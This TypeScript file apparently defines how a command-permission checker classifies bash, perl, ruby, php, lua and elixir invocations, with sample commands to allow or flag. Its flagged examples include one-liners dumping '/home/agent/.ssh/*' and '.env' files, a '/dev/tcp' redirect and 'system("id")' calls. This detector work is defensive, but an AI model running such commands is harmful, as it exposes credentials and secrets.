import { isKnown } from "../../../language/state/values.ts";
import { defineProgram, type Effect, type ProgramUse } from "../../define-program.ts";
import { isNamedTest } from "../../names/grave-words.ts";
import { has, valuesOf } from "../use.ts";

/**
 * An interpreter runs a script of the project. Without a script, or with an unknown one, the code comes from its input.
 */
function scriptEffect(use: ProgramUse): Effect | null {
  if (has(use, "-v", "-V", "--version") && use.operands.length === 0) return "read";
  const script = use.operands[0];
  const isInline = use.options.some(({ name }) => /^(-e|-E|-r|-c|--run|-n|-p|-R|-B)$/.test(name));
  if (script === undefined) return isInline ? null : "code";
  return isInline || isKnown(script.text) ? null : "code";
}

/** Shells and interpreters. Visible code is judged separately. */
export const INTERPRETERS = [
  defineProgram({
    names: "bash sh dash zsh ksh ksh93 mksh ash rbash yash posh",
    does: "work",
    options:
      "-abefhiklmnprstuvxBCEHPTD -c: -o: -O: --norc --noprofile --login --posix --restricted --verbose --rcfile:c --init-file:c --debugger --dump-strings",
    operands: "read",
    stopsAtOperand: true,
    check: (use) => {
      if (has(use, "-n") && use.operands.length > 0) return "read";
      if (has(use, "-c")) return null;
      const script = use.operands[0];
      // An interpreter also looks up a bare word along PATH.
      const isFile =
        script !== undefined && (isNamedTest(script.text) || (isKnown(script.text) && /[/.]/.test(script.text)));
      return !isFile || has(use, "-s", "-i") ? "code" : null;
    },
    runs: ["bash scripts/build.sh", "sh -c 'ls'", "bash -n x.sh", "bash -lc 'npm test'"],
    asks: ["bash", "bash -i", "bash /tmp/x.sh", 'bash "$X"', "bash version.sh < /dev/tcp/x/1", "bash --rcfile /tmp/x"],
  }),
  defineProgram({
    names: "perl",
    does: "work",
    options: "-acflnpsStTuUvVwWX -0? -C? -D? -F? -i? -I:c -l? -m? -M? -x? -e: -E: -h",
    operands: "read",
    stopsAtOperand: true,
    check: scriptEffect,
    runs: ["perl -pe 's/a/b/' f", "perl -v", "perl scripts/x.pl"],
    asks: ["perl -e 'system(\"id\")'", "perl /tmp/x.pl", "perl", "perl -MEvil -e 1"],
  }),
  defineProgram({
    names: "ruby jruby",
    does: "work",
    options:
      "-acdlnpsSvwWhyU -0? -C:d -e: -E: -F? -i? -I:c -K? -r?c -T? -x? --version --verbose --yjit --jit --disable? --enable? --encoding?",
    operands: "read",
    stopsAtOperand: true,
    check: scriptEffect,
    runs: [
      "ruby -v",
      "ruby -e 'puts 1+1'",
      "ruby script/seed.rb",
      "ruby -e 'puts Dir[\"spec/**/*_spec.rb\"].size'",
      "ruby -e 'Dir.glob(\"*.yml\").each { |f| puts File.read(f) }'",
    ],
    asks: [
      "ruby -e 'system(\"id\")'",
      "ruby",
      "ruby /tmp/x.rb",
      "ruby -e 'Dir[\".*\"].each { |f| puts File.read(f) }'",
      "ruby -e 'Dir[\"{.env,x}\"].each { |f| puts File.read(f) }'",
      "ruby -e 'Dir[\"/home/agent/.ssh/*\"].each { |f| puts File.read(f) }'",
      "ruby -e 'Dir.glob(\"*\", File::FNM_DOTMATCH).each { |f| puts File.read(f) }'",
      "ruby -e 'Dir[\"*.rb\"].each { |f| load f }'",
    ],
  }),
  defineProgram({
    names: "php",
    does: "work",
    options:
      "-ahilmnqsvw -c:c -d:x -e -f:c -r: -B: -R: -F:c -E: -S:=local -t:r -z:x --version --ini --modules --rf: --rc: --re: --ri:",
    operands: "read",
    stopsAtOperand: true,
    check: (use) =>
      has(use, "-S")
        ? // Other machines could reach it at any other address.
          valuesOf(use, "-S").every((address) => /^(?:localhost|127\.0\.0\.1|\[::1\]):\d+$/.test(address))
          ? "work"
          : "network"
        : has(use, "-v", "-m", "-i", "--ini", "--modules") && use.operands.length === 0
          ? has(use, "-i")
            ? "secret"
            : "read"
          : has(use, "-l")
            ? "work"
            : has(use, "-a")
              ? "code"
              : scriptEffect(use),
    runs: ["php -S localhost:8000 -t public", "php -v", "php -l src/a.php", "php artisan test", "php -r 'echo 1+1;'"],
    asks: [
      "php -S localhost:8000 -t ..",
      "php -S 0.0.0.0:8000",
      "php -r 'system(\"id\");'",
      "php -a",
      "php /tmp/x.php",
      "php -d auto_prepend_file=x a.php",
    ],
  }),
  defineProgram({
    names: "lua luajit lua5.1 lua5.3 lua5.4",
    does: "work",
    options: "-e: -l:x -i=code -v -E -W",
    operands: "read",
    stopsAtOperand: true,
    check: (use) => (use.does === "code" ? "code" : scriptEffect(use)),
    runs: ["lua -v", "lua spec/run.lua", "lua -e 'for l in io.lines(\"a.txt\") do print(#l) end'"],
    asks: [
      "lua -e \"os.execute('id')\"",
      'lua -e \'io.open("a.txt", "w"):write("x")\'',
      'lua -e \'io.open("a.txt", m):write("x")\'',
      'lua -e \'print(io.open(".env"):read("a"))\'',
      "lua -e 'local i = io; i.popen(\"ls\")'",
      "lua",
      "lua /tmp/x.lua",
    ],
  }),
  defineProgram({
    names: "elixir",
    does: "work",
    options: "-e: --eval: -r:c -S: -v --version --no-halt --erl:x --cookie: --sname: --name: -pr:c -pa:c",
    operands: "read",
    stopsAtOperand: true,
    check: scriptEffect,
    runs: ["elixir -e 'IO.puts(1 + 1)'", "elixir --version", "elixir scripts/x.exs"],
    asks: ["elixir -e 'System.cmd(\"id\", [])'", "elixir", "elixir /tmp/x.exs"],
  }),
];
